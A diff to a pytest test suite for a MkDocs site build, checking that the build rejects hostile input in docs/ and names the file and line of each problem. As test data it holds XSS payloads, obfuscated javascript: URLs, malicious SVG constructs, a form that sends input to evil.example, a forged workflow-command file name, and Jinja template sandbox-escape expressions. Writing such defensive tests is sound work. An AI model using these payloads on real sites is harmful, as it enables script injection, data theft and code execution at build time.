@@ -12,7 +12,7 @@ from pathlib import Path
 import pytest
 from bs4 import BeautifulSoup
 
-from conftest import FIXTURE_DATA, copy_project, run_build
+from conftest import FIXTURE_DATA, ROOT, copy_project, run_build
 from macros.site import content_security_policy as csp
 from macros.site.page_markup_rules import markup_problems, redirect_problem, symlinks_in
 
@@ -30,6 +30,11 @@ def built_page_problems(page: str, html: str, site: Path | None = None) -> list[
         kind = (script.get("type") or "").strip().lower()
         if kind and kind not in _DATA_TYPES:
             found.append(f"{page}: <script type=\"{kind}\">")
+    for link in soup.find_all("link", href=True):
+        rels = {rel.lower() for rel in link.get("rel") or []}
+        if rels & {"dns-prefetch", "preconnect", "prefetch", "preload", "prerender", "modulepreload"} \
+                and re.match(r"^\s*([a-zA-Z][a-zA-Z0-9+.-]*:)?//", link["href"]):
+            found.append(f"{page}: <link rel=\"{' '.join(sorted(rels))}\" href=\"{link['href']}\">")
     for tag in soup.find_all("base"):
         found.append(f"{page}: <base href=\"{tag.get('href')}\">")
     for form in soup.find_all("form"):
@@ -74,6 +79,8 @@ def test_redirect_pages_are_scanned(built_site):
     '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
     '<meta http-equiv="refresh" content="0;URL=\'//evil.example/\'">',
     '<meta http-equiv="set-cookie" content="a=b">',
+    '<link rel="DNS-Prefetch" href="//tracker.example">',
+    '<link rel="preconnect" href="https://tracker.example">',
 ])
 def test_the_scan_catches_each_kind_of_markup(injected):
     page = f"<html><head></head><body><p>Text</p>{injected}</body></html>"
@@ -101,7 +108,9 @@ def test_the_scan_catches_a_refresh_to_a_missing_page(built_site):
     ('<p onmouseover="alert(1)">x</p>', "inline event handlers"),
     ('<img src=x ONERROR=alert(1)>', "inline event handlers"),
     ('<a href=" jav\tascript:alert(1)">x</a>', "javascript:"),
-    ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', "javascript:"),
+    ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', "'data:' addresses are not allowed"),
+    ('<a href="&#106;avascript:alert(1)">x</a>', "'javascript:' addresses are not allowed"),
+    ('<a href="vbscript:msgbox(1)">x</a>', "'vbscript:' addresses are not allowed"),
     ('<script type="application/ld+json">{"@type": "Article"}</script>', None),
     ('<a href="https://example.org/">x</a><p class="onboarding">x</p>', None),
     ('<!-- <form> -->', None),
@@ -167,18 +176,24 @@ def _build_output(project: Path) -> tuple[int, str]:
     return result.returncode, output
 
 
-def test_build_refuses_unsafe_markup_in_a_prose_page(tmp_path):
+def _refused_page_build(tmp_path, *blocks: str) -> str:
+    """Build the fixture site with docs/evil.md holding these blocks (from line 5, two lines
+    apart); the build must stop. Its output."""
     project = copy_project(tmp_path / "p", data=FIXTURE_DATA)
-    (project / "docs" / "evil.md").write_text(
-        "# Evil\n\nText.\n\n"
-        '<script type="application/x-javascript">alert(1)</script>\n\n'
-        '<form action="https://evil.example/collect"><input name="q"></form>\n\n'
-        '<base href="https://evil.example/">\n\n'
-        '<meta http-equiv="refresh" content="0; url=https://evil.example/">\n')
+    (project / "docs" / "evil.md").write_text("# Evil\n\nText.\n\n" + "\n\n".join(blocks) + "\n")
     code, output = _build_output(project)
     assert code != 0
-    for words in ("docs/evil.md: this page's text carries markup", "scripts are not allowed",
-                  "forms are not allowed", "<base> is not allowed", "<meta> is not allowed"):
+    return output
+
+
+def test_build_refuses_unsafe_markup_in_a_prose_page(tmp_path):
+    output = _refused_page_build(tmp_path, '<script type="application/x-javascript">alert(1)</script>',
+                                 '<form action="https://evil.example/collect"><input name="q"></form>',
+                                 '<base href="https://evil.example/">',
+                                 '<meta http-equiv="refresh" content="0; url=https://evil.example/">')
+    for words in ("docs/evil.md:5: <script", "scripts are not allowed", "docs/evil.md:7: <form",
+                  "forms are not allowed", "docs/evil.md:9: <base", "<base> is not allowed",
+                  "docs/evil.md:11: <meta", "<meta> is not allowed"):
         assert words in output, output[-3000:]
 
 
@@ -188,7 +203,7 @@ def test_build_refuses_a_redirect_that_leaves_the_site(tmp_path, target):
     (project / "docs" / "moved.md").write_text(f"---\nredirect_to: {target}\n---\n\n# Moved\n")
     code, output = _build_output(project)
     assert code != 0
-    assert f"docs/moved.md: redirect_to: '{target}'" in output, output[-3000:]
+    assert f"docs/moved.md:2: redirect_to: '{target}'" in output, output[-3000:]
 
 
 def test_build_refuses_symlinks_in_docs(tmp_path):
@@ -199,7 +214,19 @@ def test_build_refuses_symlinks_in_docs(tmp_path):
     os.symlink(project / "outside", project / "docs" / "more")
     code, output = _build_output(project)
     assert code != 0
-    assert "docs/config.md: replace the link" in output and "docs/more: replace the link" in output, output[-3000:]
+    assert "docs/config.md:1: is a symbolic link: replace the link" in output, output[-3000:]
+    assert "docs/more:1: is a symbolic link: replace the link" in output, output[-3000:]
+
+
+def test_a_file_name_in_docs_cannot_forge_a_workflow_command(tmp_path):
+    """docs/ file names reach the build's log: a line break in one is escaped, as in the data report."""
+    project = copy_project(tmp_path / "p", data=FIXTURE_DATA)
+    os.symlink("../../.git/config", project / "docs" / "x\n::error file=a.yml,line=1::forged.md")
+    (project / "docs" / "conditions").mkdir()
+    (project / "docs" / "conditions" / "sore-back.md").write_text("# Sore back\n")
+    code, output = _build_output(project)
+    assert code != 0 and "docs/x%0A::error file=a.yml,line=1::forged.md:1: is a symbolic link" in output, output
+    assert not any(line.startswith("::") for line in output.splitlines())
 
 
 @pytest.mark.parametrize("hostile", ['<a ' * 20000, '<a "' * 20000, '<a b=' * 20000, '<!--' * 20000,
@@ -216,25 +243,93 @@ def test_the_checks_stay_linear_on_hostile_markup(hostile):
     assert time.perf_counter() - started < 5
 
 
+_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
+
+
 @pytest.mark.parametrize("name, text, words", [
     ("assets/page.html", "<p>hello</p>", "HTML files are not allowed"),
     ("old/PAGE.HTM", "<p>hello</p>", "HTML files are not allowed"),
-    ("assets/logo.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "may not carry scripts"),
-    ("assets/logo.svg", '<svg onload="alert(1)"></svg>', "may not carry scripts"),
-    ("assets/logo.svg", '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>', "may not carry scripts"),
-    ("assets/logo.svg", '<svg><svg:script>alert(1)</svg:script></svg>', "may not carry scripts"),
-    ("assets/logo.svg", '<svg><foreignObject><p>x</p></foreignObject></svg>', "may not carry scripts"),
-    ("assets/logo.svg", '<svg viewBox="0 0 10 10"><path d="M0 0h10v10z"/></svg>', None),
+    ("assets/feed.xml", "<rss/>", "'.xml' files are not published from docs/"),
+    ("assets/style.xslt", "<xsl:stylesheet/>", "'.xslt' files are not published"),
+    ("assets/style.XSL", "<xsl:stylesheet/>", "'.xsl' files are not published"),
+    ("news.rss", "<rss/>", "'.rss' files"), ("news.atom", "<feed/>", "'.atom' files"),
+    ("news.rdf", "<rdf/>", "'.rdf' files"), ("logo.svgz", "x", "'.svgz' files"),
+    ("CNAME", "example.org", "'CNAME' files are not published"),
+    ("assets/logo.svg", _SVG.format("<script>alert(1)</script>"), "<script> is not allowed"),
+    ("assets/logo.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>', "event handlers"),
+    ("assets/logo.svg", _SVG.format('<a href="javascript:alert(1)"><text>x</text></a>'), "'javascript:'"),
+    ("assets/logo.svg", _SVG.format('<a xlink:href="&#106;avascript:alert(1)"><text>x</text></a>'), "'javascript:'"),
+    ("assets/logo.svg", _SVG.format('<a href="vbscript:x"><text>x</text></a>'), "'vbscript:'"),
+    ("assets/logo.svg", _SVG.format('<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>'),
+     "<script> is not allowed"),
+    ("assets/logo.svg", _SVG.format("<foreignObject><p>x</p></foreignObject>"), "<foreignObject> is not allowed"),
+    ("assets/logo.svg", _SVG.format('<a href="#"><set attributeName="href" to="https://example.org/"/>x</a>'),
+     "<set> may not change an address"),
+    ("assets/logo.svg", _SVG.format('<a><animate attributeName="xlink:href" values="#a;#b"/>x</a>'),
+     "<animate> may not change an address"),
+    ("assets/logo.svg", _SVG.format('<xsl:element xmlns:xsl="http://www.w3.org/1999/XSL/Transform" name="script">'
+                                    "alert(1)</xsl:element>"), "XSLT elements"),
+    ("assets/logo.svg", '<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="s.xsl"?>\n' + _SVG.format(""),
+     "<?xml-stylesheet ...?> is not allowed"),
+    ("assets/logo.svg", '<!DOCTYPE svg [<!ENTITY j "javascript:alert(1)">]>' + _SVG.format('<a href="&j;">x</a>'),
+     "a DOCTYPE with declarations"),
+    ("assets/logo.svg", _SVG.format('<image href="data:image/svg+xml;base64,PHN2Zz4="/>'), "'data:' addresses"),
+    ("assets/logo.svg", _SVG.format('<rect style="fill: url(&#39;javascript:x&#39;)"/>'), "'javascript:'"),
+    ("assets/logo.svg", '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
+     "XHTML elements"),
+    ("assets/logo.svg", "<svg><script>alert(1)</script></svg>", "does not start with <svg xmlns="),
+    ("assets/logo.svg", "<svg", "not well-formed XML"),
+    ("assets/logo.svg", '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><path d="M0 0h10v10z"/>'
+     '<a href="https://example.org/"><text>x</text></a></svg>', None),
     ("assets/extra.css", "a { color: red }", None),
+    ("assets/map.png", "\x89PNG", None),
 ])
-def test_static_files_that_would_be_pages(name, text, words):
-    from macros.site.page_markup_rules import static_file_problem
+def test_static_files_in_docs(name, text, words):
+    from macros.site.docs_input import static_file_problem
 
-    problem = static_file_problem(name, lambda: text)
+    problem = static_file_problem(name, lambda: text.encode("utf-8"))
     if words is None:
         assert problem is None
     else:
         assert problem and words in problem, problem
+
+
+_PAGE = "---\n{}---\n\n# A page\n\nText.\n"
+
+
+@pytest.mark.parametrize("front_matter, expected", [
+    ("title: <script src=\"../assets/evil.js\"></script>\n", "docs/p.md:2: title: HTML is not allowed here"),
+    ("title: Fine\nsubtitle: <meta http-equiv=refresh content=\"0;url=https://evil.example/\">\n",
+     "docs/p.md:3: subtitle: unknown field 'subtitle'"),
+    ("status: new\n", "docs/p.md:2: status: unknown field 'status'"),
+    ("template: redirect.html\nlocation: javascript:alert(1)\n", "docs/p.md:2: template: unknown field"),
+    ("icon: ../../x\n", "docs/p.md:2: icon: unknown field"),
+    ("title: Fine {{ config }}\n", "docs/p.md:2: title: curly braces"),
+    ("description: javascript:alert(1)\n", "docs/p.md:2: description: 'javascript:' is not allowed"),
+    ("title: [a, b]\n", "docs/p.md:2: title: "),
+    ("last_reviewed: 0\n", "docs/p.md:2: last_reviewed: 0 is not a date"),
+    ("hide: [toc, everything]\n", "docs/p.md:2: hide[1]: "),
+    ("title: &a Fine\ndescription: *a\n", "docs/p.md:2: title: anchors ('&') and aliases ('*') are not allowed"),
+    ("title: Fine\u202e\n", "docs/p.md:2: the invisible or control character U+202E"),
+])
+def test_front_matter_is_plain_and_only_what_the_page_needs(front_matter, expected):
+    from macros.site.docs_input import docs_page_errors
+
+    errors = [str(e) for e in docs_page_errors("p.md", _PAGE.format(front_matter))]
+    assert any(e.startswith(expected) for e in errors), errors
+
+
+def test_front_matter_without_dashes_is_refused():
+    from macros.site.docs_input import docs_page_errors
+
+    [error] = docs_page_errors("p.md", "Subtitle: <meta http-equiv=refresh>\n\n# A page\n")
+    assert str(error).startswith("docs/p.md:1: 'Subtitle: <meta") and "between two '---' lines" in str(error)
+
+
+def test_the_site_s_own_docs_pass(tmp_path):
+    from macros.site.docs_input import docs_tree_errors
+
+    assert docs_tree_errors(ROOT / "docs") == []
 
 
 def test_build_refuses_an_html_file_in_docs(tmp_path):
@@ -242,4 +337,81 @@ def test_build_refuses_an_html_file_in_docs(tmp_path):
     (project / "docs" / "assets" / "login.html").write_text('<form action="https://evil.example/">')
     code, output = _build_output(project)
     assert code != 0
-    assert "docs/assets/login.html: HTML files are not allowed in docs/" in output, output[-3000:]
+    assert "docs/assets/login.html:1: HTML files are not allowed in docs/" in output, output[-3000:]
+
+
+def test_build_refuses_hostile_files_in_docs_naming_file_and_line(tmp_path):
+    """The reproductions of the hostile-input review, planted in one pull request's worth of
+    docs/: each is named with its file and line, and nothing is built."""
+    project = copy_project(tmp_path / "p", data=FIXTURE_DATA)
+    docs = project / "docs"
+    (docs / "assets" / "evil.js").write_text("alert(document.domain)\n")
+    (docs / "evil.md").write_text('---\ntitle: <script src="../assets/evil.js"></script>\n---\n\n# Evil\n')
+    (docs / "moved.md").write_text('---\ntitle: Moved\nsubtitle: <meta http-equiv="refresh" '
+                                   'content="0;url=https://evil.example/">\nstatus: new\n---\n\n# Moved\n')
+    (docs / "hidden.md").write_text("# Hidden\n\nA message in\ufe0f variation selectors.\n")
+    (docs / "assets" / "logo.svg").write_text(
+        '<svg xmlns="http://www.w3.org/2000/svg">\n<a href="#">\n'
+        '<set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>\n</svg>\n')
+    (docs / "assets" / "style.xslt").write_text('<xsl:stylesheet version="1.0"/>')
+    (docs / "assets" / "feed.rss").write_text("<rss/>")
+    code, output = _build_output(project)
+    assert code != 0
+    for words in ("docs/evil.md:2: title: HTML is not allowed here",
+                  "docs/moved.md:3: subtitle: unknown field 'subtitle'",
+                  "docs/moved.md:4: status: unknown field 'status'",
+                  "docs/hidden.md:3: the invisible or control character U+FE0F",
+                  "docs/assets/logo.svg:3: an image may not carry scripts: line 3: <set> may not change an address",
+                  "docs/assets/style.xslt:1: '.xslt' files are not published from docs/",
+                  "docs/assets/feed.rss:1: '.rss' files are not published"):
+        assert words in output, output[-3000:]
+    assert not (project / "site" / "evil").exists()
+
+
+def test_build_refuses_markup_in_a_page_at_its_line(tmp_path):
+    output = _refused_page_build(tmp_path, '<a href="&#106;avascript:alert(1)">here</a>',
+                                 "[there](vb&#115;cript:msgbox)",
+                                 '<link rel="dns-prefetch" href="//tracker.example">',
+                                 '<link rel="preconnect" href="https://tracker.example">')
+    for words in ("docs/evil.md:5: <a href=\"&#106;avascript:alert(1)\">: href=: 'javascript:' addresses",
+                  "docs/evil.md:7: ",
+                  "docs/evil.md:9: <link rel=\"dns-prefetch\" href=\"//tracker.example\">: <link> is not allowed",
+                  "docs/evil.md:11: <link rel=\"preconnect\""):
+        assert words in output, output[-3000:]
+    assert "'vbscript:'" in output, output[-3000:]
+
+
+def test_a_title_the_theme_would_print_as_markup_is_refused():
+    """MkDocs takes a page's title from its first heading when the front matter has none; the
+    theme prints it raw in the menu, so one that still holds markup is refused."""
+    from macros.site.docs_input import title_error
+
+    assert str(title_error("p.md", '<img src=x onerror="alert(1)"')).startswith("docs/p.md:1: title: ")
+    assert title_error("p.md", "Pain &gt; 3 months") is None
+
+
+@pytest.mark.parametrize("path, maker", [("conditions/sore-back.md", "data/conditions/sore-back.yml"),
+                                         ("conditions/index.md", "the data in data/"),
+                                         ("api/v1/evidence-map.json", "the data in data/")])
+def test_build_refuses_a_docs_file_at_a_generated_address_naming_both(tmp_path, path, maker):
+    """A docs/ page at the address of a page the site makes was silently replaced by it."""
+    project = copy_project(tmp_path / "p", data=FIXTURE_DATA)
+    (project / "docs" / path).parent.mkdir(parents=True, exist_ok=True)
+    (project / "docs" / path).write_text("# Sore back\n\nAnother text.\n")
+    code, output = _build_output(project)
+    assert code != 0
+    assert f"docs/{path}:1: the site makes the file at this address itself, from {maker}" in output, output[-3000:]
+
+
+@pytest.mark.parametrize("expression", ['lipsum.__globals__["os"].getcwd()', "cycler.__init__.__globals__",
+                                        'claim_verdict.__globals__["__builtins__"]', "range(3)",
+                                        "''.__class__.__mro__[1].__subclasses__()"])
+def test_a_prose_page_cannot_reach_python(tmp_path, expression):
+    """A docs/ page that shows data is a template: it reaches the site's functions, never Python
+    (unsandboxed, `lipsum.__globals__` led to the os module at build time)."""
+    project = copy_project(tmp_path / "p", data=FIXTURE_DATA)
+    (project / "docs" / "evil.md").write_text("---\ntitle: Evil\nrender_macros: true\n---\n\n# Evil\n\n"
+                                              f"{{{{ {expression} }}}}\n")
+    code, output = _build_output(project)
+    assert code != 0
+    assert "docs/evil.md:8: {{ ... }} can only call" in output, output[-3000:]
